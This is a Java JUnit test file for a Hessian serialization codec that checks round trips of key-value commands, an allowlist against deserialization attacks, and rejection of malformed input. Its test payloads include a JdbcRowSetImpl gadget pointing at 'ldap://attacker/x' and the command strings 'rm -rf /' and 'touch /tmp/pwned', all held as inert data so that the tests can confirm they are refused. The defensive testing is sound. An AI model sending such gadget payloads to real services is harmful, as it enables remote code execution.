package io.lodestar.kv.codec;

import static io.lodestar.kv.codec.HessianBytes.hessian;
import static io.lodestar.kv.codec.HessianBytes.messages;
import static io.lodestar.kv.codec.HessianBytes.orderedMap;
import static io.lodestar.kv.codec.HessianBytes.writeObjectNamed;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import com.caucho.hessian.io.Hessian2Input;
import com.caucho.hessian.io.Hessian2Output;
import com.caucho.hessian.io.SerializerFactory;
import io.lodestar.kv.command.Command;
import io.lodestar.kv.command.Compare;
import io.lodestar.kv.command.Op;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.Serializable;
import java.io.UncheckedIOException;
import java.util.Arrays;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

class HessianCodecTest {
    private static final Set<Class<?>> COMMAND_CLASSES = Set.of(Command.class, Op.class, Compare.class);
    /** The name of a class this test never touches; its static initializer records that it ran. */
    private static final String POISONED = HessianCodecTest.class.getName() + "$Poisoned";

    static final AtomicBoolean POISONED_INITIALIZED = new AtomicBoolean();

    private final HessianCodec codec = new HessianCodec(COMMAND_CLASSES);

    @BeforeEach
    void resetProbes() {
        Evil.CONSTRUCTED.set(0);
        Evil.RESOLVED.set(0);
    }

    // --- round trips ---

    @Test
    void putRoundTripsWithEveryField() {
        Command decoded = roundTrip(Command.put("config", bytes("app/db.url"), bytes("jdbc:x")));

        assertEquals(List.of(), decoded.compares());
        assertEquals(1, decoded.ops().size());
        assertOp(decoded.ops().get(0), Op.PUT, "config", bytes("app/db.url"), bytes("jdbc:x"));
    }

    @Test
    void deleteRoundTripsWithNullValue() {
        Command decoded = roundTrip(Command.delete("naming", bytes("svc/1")));

        assertEquals(List.of(), decoded.compares());
        assertOp(decoded.ops().get(0), Op.DELETE, "naming", bytes("svc/1"), null);
        assertFalse(decoded.ops().get(0).isPut());
    }

    @Test
    void putIfRevisionRoundTripsItsGuard() {
        Command decoded = roundTrip(Command.putIfRevision("config", bytes("k"), bytes("v"), 42));

        Compare guard = decoded.compares().get(0);
        assertEquals("config", guard.keyspace());
        assertArrayEquals(bytes("k"), guard.key());
        assertTrue(guard.onRevision());
        assertEquals(42, guard.expectedModRevision());
        assertNull(guard.expectedValueMd5());
        assertOp(decoded.ops().get(0), Op.PUT, "config", bytes("k"), bytes("v"));
    }

    @Test
    void putIfRevisionZeroRoundTripsAsMustBeAbsent() {
        Compare guard = roundTrip(Command.putIfRevision("config", bytes("k"), bytes("v"), 0))
                .compares()
                .get(0);

        assertTrue(guard.onRevision());
        assertEquals(0, guard.expectedModRevision());
    }

    @Test
    void putIfValueMd5RoundTripsItsDigest() {
        byte[] md5 = new byte[16];
        for (int i = 0; i < md5.length; i++) {
            md5[i] = (byte) (0xF0 + i);
        }
        Command decoded = roundTrip(Command.putIfValueMd5("config", bytes("k"), bytes("new"), md5));

        Compare guard = decoded.compares().get(0);
        assertFalse(guard.onRevision());
        assertEquals(-1, guard.expectedModRevision());
        assertArrayEquals(md5, guard.expectedValueMd5());
        assertEquals("config", guard.keyspace());
        assertArrayEquals(bytes("k"), guard.key());
        assertOp(decoded.ops().get(0), Op.PUT, "config", bytes("k"), bytes("new"));
    }

    @Test
    void batchRoundTripsEveryOpInOrder() {
        byte[] allBytes = new byte[256];
        for (int i = 0; i < allBytes.length; i++) {
            allBytes[i] = (byte) i;
        }
        byte[] large = new byte[100_000];
        new Random(7).nextBytes(large);
        Command decoded = roundTrip(Command.batch(List.of(
                Op.put("config", allBytes, new byte[0]),
                Op.delete("naming", bytes("gone")),
                Op.put("配置", bytes("ключ"), large))));

        assertEquals(3, decoded.ops().size());
        assertOp(decoded.ops().get(0), Op.PUT, "config", allBytes, new byte[0]);
        assertOp(decoded.ops().get(1), Op.DELETE, "naming", bytes("gone"), null);
        assertOp(decoded.ops().get(2), Op.PUT, "配置", bytes("ключ"), large);
    }

    @Test
    void guardedMultiOpCommandRoundTripsAllGuardsAndOps() {
        byte[] md5 = new byte[16];
        Command decoded = roundTrip(Command.of(
                List.of(Compare.modRevision("config", bytes("a"), 3), Compare.valueMd5("naming", bytes("b"), md5)),
                List.of(Op.put("config", bytes("a"), bytes("1")), Op.delete("naming", bytes("b")))));

        assertEquals(2, decoded.compares().size());
        assertEquals(3, decoded.compares().get(0).expectedModRevision());
        assertArrayEquals(bytes("a"), decoded.compares().get(0).key());
        assertArrayEquals(md5, decoded.compares().get(1).expectedValueMd5());
        assertEquals("naming", decoded.compares().get(1).keyspace());
        assertOp(decoded.ops().get(0), Op.PUT, "config", bytes("a"), bytes("1"));
        assertOp(decoded.ops().get(1), Op.DELETE, "naming", bytes("b"), null);
    }

    // --- the allowlist ---

    @Test
    void classOutsideTheAllowlistIsRejectedBeforeAnyInstanceIsCreated() {
        byte[] payload = unrestrictedEncode(new Evil());
        resetProbes();

        Throwable asObject = thrownBy(() -> codec.decode(payload, Object.class));
        Throwable asCommand = thrownBy(() -> codec.decode(payload, Command.class));

        assertEquals(0, Evil.CONSTRUCTED.get(), "an Evil was constructed");
        assertEquals(0, Evil.RESOLVED.get(), "an Evil was resolved");
        assertInstanceOf(CodecException.class, asObject);
        assertInstanceOf(CodecException.class, asCommand);

        // control: the probe does see creation when nothing restricts the decode
        unrestrictedDecode(payload);
        assertEquals(1, Evil.CONSTRUCTED.get());
    }

    @Test
    void classOutsideTheAllowlistIsRejectedBeforeItIsEvenInitialized() {
        assertNotNull(
                HessianCodecTest.class.getResource("HessianCodecTest$Poisoned.class"),
                "the probe class exists under the name the payload uses");
        byte[] payload = hessian(out -> writeObjectNamed(out, POISONED, Map.of("command", "rm -rf /")));

        Throwable thrown = thrownBy(() -> codec.decode(payload, Object.class));

        assertFalse(POISONED_INITIALIZED.get(), "the static initializer of a class outside the allowlist ran");
        assertInstanceOf(CodecException.class, thrown);
        assertTrue(messages(thrown).contains(POISONED), "the error names the refused class: " + messages(thrown));
    }

    @Test
    void disallowedObjectNestedInAnAllowedOneFailsTheWholeDecode() {
        HessianCodec envelopes = new HessianCodec(Set.of(Envelope.class, Command.class, Op.class, Compare.class));
        byte[] payload = unrestrictedEncode(new Envelope(new Evil()));
        resetProbes();

        Throwable thrown = thrownBy(() -> envelopes.decode(payload, Envelope.class));

        assertEquals(0, Evil.CONSTRUCTED.get(), "an Evil was constructed");
        assertInstanceOf(CodecException.class, thrown);

        // control: the same codec decodes the envelope when it holds an allowed object
        Envelope ok =
                envelopes.decode(envelopes.encode(new Envelope(Command.delete("config", bytes("k")))), Envelope.class);
        assertTrue(ok.payload instanceof Command);
    }

    @Test
    void unknownClassNestedInAnAllowedOneIsNotTurnedIntoAMap() {
        // plain Hessian decodes an object of a class it cannot find as a HashMap of its fields
        HessianCodec envelopes = new HessianCodec(Set.of(Envelope.class));
        byte[] payload = hessian(out ->
                writeObjectNamed(out, Envelope.class.getName(), orderedMap("payload", (HessianBytes.Writer)
                        o -> writeObjectNamed(o, "com.example.NoSuchClass", Map.of("x", 1)))));

        Object unrestricted = unrestrictedDecode(payload);
        assertTrue(((Envelope) unrestricted).payload instanceof HashMap, "control: plain Hessian makes a map here");

        CodecException e = assertThrows(CodecException.class, () -> envelopes.decode(payload, Envelope.class));
        assertTrue(messages(e).contains("com.example.NoSuchClass"), messages(e));
    }

    @Test
    void wellKnownGadgetClassIsRejected() {
        String gadget = "com.sun.rowset.JdbcRowSetImpl";
        byte[] payload = hessian(out ->
                writeObjectNamed(out, gadget, orderedMap("dataSourceName", "ldap://attacker/x", "autoCommit", true)));

        CodecException e = assertThrows(CodecException.class, () -> codec.decode(payload, Command.class));
        assertTrue(messages(e).contains(gadget), messages(e));
    }

    @Test
    void gadgetClassNestedInAnAllowedObjectIsRejected() {
        HessianCodec envelopes = new HessianCodec(Set.of(Envelope.class));
        byte[] payload = hessian(out ->
                writeObjectNamed(out, Envelope.class.getName(), orderedMap("payload", (HessianBytes.Writer)
                        o -> writeObjectNamed(o, "com.sun.rowset.JdbcRowSetImpl", Map.of()))));

        assertThrows(CodecException.class, () -> envelopes.decode(payload, Envelope.class));
    }

    @Test
    void arrayOfADisallowedClassIsRejected() {
        byte[] payload = hessian(out -> {
            out.writeListBegin(1, "[com.sun.rowset.JdbcRowSetImpl");
            writeObjectNamed(out, "com.sun.rowset.JdbcRowSetImpl", Map.of());
            out.writeListEnd();
        });

        assertThrows(CodecException.class, () -> codec.decode(payload, Object.class));
    }

    @Test
    void typedHashMapIsRejected() {
        byte[] payload = hessian(out -> {
            out.writeMapBegin("java.util.HashMap");
            out.writeString("k");
            out.writeString("v");
            out.writeMapEnd();
        });

        CodecException e = assertThrows(CodecException.class, () -> codec.decode(payload, Object.class));
        assertTrue(messages(e).contains("java.util.HashMap"), messages(e));
    }

    @Test
    void untypedMapIsNotACommand() {
        byte[] payload = unrestrictedEncode(new HashMap<>(Map.of("ops", "x")));

        assertThrows(CodecException.class, () -> codec.decode(payload, Command.class));
    }

    @Test
    void encodingAClassOutsideTheAllowlistFails() {
        assertThrows(CodecException.class, () -> codec.encode(new Evil()));
    }

    // --- malformed input ---

    @Test
    void everyTruncationOfAValidPayloadIsACodecException() {
        byte[] whole = codec.encode(Command.of(
                List.of(Compare.modRevision("config", bytes("a"), 3)),
                List.of(Op.put("config", bytes("a"), bytes("value")), Op.delete("naming", bytes("b")))));

        for (int length = 0; length < whole.length; length++) {
            byte[] prefix = Arrays.copyOf(whole, length);
            assertDecodeFailsWithCodecException(prefix, "prefix of " + length + " of " + whole.length + " bytes");
        }
    }

    @Test
    void randomGarbageIsAlwaysACodecException() {
        Random random = new Random(20240611);
        for (int i = 0; i < 5_000; i++) {
            byte[] garbage = new byte[1 + random.nextInt(64)];
            random.nextBytes(garbage);
            assertDecodeFailsWithCodecException(garbage, "garbage #" + i + " " + Arrays.toString(garbage));
        }
    }

    @Test
    void validPayloadWithFlippedBytesNeverEscapesAsAnotherException() {
        byte[] whole = codec.encode(Command.putIfRevision("config", bytes("key"), bytes("value"), 9));
        Random random = new Random(42);
        for (int i = 0; i < 2_000; i++) {
            byte[] damaged = whole.clone();
            damaged[random.nextInt(damaged.length)] = (byte) random.nextInt(256);
            try {
                codec.decode(damaged, Command.class);
            } catch (CodecException expected) {
                // a damaged byte may also land in a value and decode fine; what matters is the type
            } catch (RuntimeException | Error e) {
                fail("damaged payload #" + i + " escaped as " + e, e);
            }
        }
    }

    @Test
    void hugeDeclaredArrayLengthIsACodecExceptionNotAnOutOfMemoryError() {
        byte[] payload = hessian(out -> {
            out.writeListBegin(Integer.MAX_VALUE - 8, "[" + Op.class.getName());
            out.writeNull();
        });

        assertDecodeFailsWithCodecException(payload, "a list declaring " + (Integer.MAX_VALUE - 8) + " elements");
    }

    @Test
    void deeplyNestedPayloadIsACodecExceptionNotAStackOverflow() {
        int depth = 200_000;
        byte[] payload = hessian(out -> {
            for (int i = 0; i < depth; i++) {
                out.writeListBegin(-1, null);
            }
            for (int i = 0; i < depth; i++) {
                out.writeListEnd();
            }
        });

        assertDecodeFailsWithCodecException(payload, "lists nested " + depth + " deep");
    }

    @Test
    void emptyPayloadIsACodecException() {
        assertDecodeFailsWithCodecException(new byte[0], "no bytes");
    }

    @Test
    void nullPayloadIsACodecException() {
        byte[] payload = hessian(Hessian2Output::writeNull);

        CodecException e = assertThrows(CodecException.class, () -> codec.decode(payload, Command.class));
        assertTrue(e.getMessage().contains("null"), e.getMessage());
    }

    @Test
    void decodingAsTheWrongTypeIsACodecExceptionNamingBothTypes() {
        byte[] command = codec.encode(Command.put("config", bytes("k"), bytes("v")));
        byte[] op = codec.encode(Op.put("config", bytes("k"), bytes("v")));
        byte[] string = codec.encode("just a string");

        CodecException e = assertThrows(CodecException.class, () -> codec.decode(command, Op.class));
        assertTrue(
                e.getMessage().contains(Op.class.getName()) && e.getMessage().contains(Command.class.getName()),
                e.getMessage());
        assertThrows(CodecException.class, () -> codec.decode(op, Command.class));
        assertThrows(CodecException.class, () -> codec.decode(string, Command.class));
    }

    // --- helpers ---

    private Command roundTrip(Command command) {
        return codec.decode(codec.encode(command), Command.class);
    }

    private void assertDecodeFailsWithCodecException(byte[] payload, String what) {
        try {
            Object decoded = codec.decode(payload, Command.class);
            fail(what + " decoded as " + decoded);
        } catch (CodecException expected) {
            // the only acceptable failure
        } catch (RuntimeException | Error e) {
            fail(what + " escaped as " + e, e);
        }
    }

    private static void assertOp(Op op, byte kind, String keyspace, byte[] key, byte[] value) {
        assertEquals(kind, op.kind());
        assertEquals(kind == Op.PUT, op.isPut());
        assertEquals(keyspace, op.keyspace());
        assertArrayEquals(key, op.key());
        assertArrayEquals(value, op.value());
    }

    /** What {@code call} threw, or null; lets a test check its probes before the exception type. */
    private static Throwable thrownBy(Runnable call) {
        try {
            call.run();
            return null;
        } catch (RuntimeException | Error e) {
            return e;
        }
    }

    private static byte[] unrestrictedEncode(Object value) {
        return hessian(out -> out.writeObject(value));
    }

    private static Object unrestrictedDecode(byte[] payload) {
        Hessian2Input in = new Hessian2Input(new ByteArrayInputStream(payload));
        in.setSerializerFactory(new SerializerFactory());
        try {
            return in.readObject();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] bytes(String s) {
        return s.getBytes(UTF_8);
    }

    /** Counts every way Hessian could bring one to life. */
    static final class Evil implements Serializable {
        private static final long serialVersionUID = 1L;
        static final AtomicInteger CONSTRUCTED = new AtomicInteger();
        static final AtomicInteger RESOLVED = new AtomicInteger();

        private String command = "touch /tmp/pwned";

        Evil() {
            CONSTRUCTED.incrementAndGet();
        }

        private Object readResolve() {
            RESOLVED.incrementAndGet();
            return this;
        }
    }

    /** Never referenced by this test except by name: initializing it flips the flag. */
    static final class Poisoned implements Serializable {
        private static final long serialVersionUID = 1L;

        static {
            POISONED_INITIALIZED.set(true);
        }

        private String command;
    }

    /** An allowlisted outer object with a field that can hold anything. */
    static final class Envelope implements Serializable {
        private static final long serialVersionUID = 1L;
        private Object payload;

        Envelope(Object payload) {
            this.payload = payload;
        }
    }
}
